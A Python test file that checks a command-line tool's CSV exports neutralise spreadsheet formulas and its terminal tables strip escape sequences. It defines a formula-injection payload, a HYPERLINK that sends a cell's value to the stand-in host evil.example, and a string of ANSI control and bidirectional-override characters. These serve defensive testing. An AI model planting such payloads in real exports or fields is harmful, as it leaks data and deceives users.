"""What someone typed never acts on the reader's tools: CSV from every command opens in a
spreadsheet without running a formula, and tables on the terminal carry no escape sequences."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.support import dti, ok

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ESCAPES = "Payroll\x1b[2J\x1b[31m\x07 done\u202e"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_from_process_list_and_show_neutralises_formulas(sample_url: str) -> None:
    ok(dti(sample_url, "process", "edit", "HR-REC", "--name", FORMULA))
    listed = {row["code"]: row for row in
              _rows(ok(dti(sample_url, "process", "list", "--format", "csv")))}
    assert listed["HR-REC"]["name"] == "'" + FORMULA
    shown = _rows(ok(dti(sample_url, "process", "show", "HR-REC", "--format", "csv")))
    assert shown[0]["name"] == "'" + FORMULA
    as_json = ok(dti(sample_url, "process", "show", "HR-REC", "--format", "json"))
    assert '"name": "=HYPERLINK' in as_json  # JSON is data for programs: kept exactly


def test_csv_from_score_neutralises_formulas(sample_url: str, tmp_path: Path) -> None:
    ok(dti(sample_url, "process", "edit", "HR-REC", "--name", FORMULA))
    out = tmp_path / "ranking.csv"
    assert dti(sample_url, "score", "--out", str(out)).exit_code == 0  # notes go to stderr
    names = {row["code"]: row["name"] for row in _rows(out.read_text())}
    assert names["HR-REC"] == "'" + FORMULA


def test_terminal_tables_print_no_escape_sequences(sample_url: str) -> None:
    ok(dti(sample_url, "process", "edit", "HR-REC", "--name", ESCAPES))
    for command in (["process", "show", "HR-REC"], ["process", "list"]):
        printed = ok(dti(sample_url, *command))
        assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
        assert "Payroll" in printed
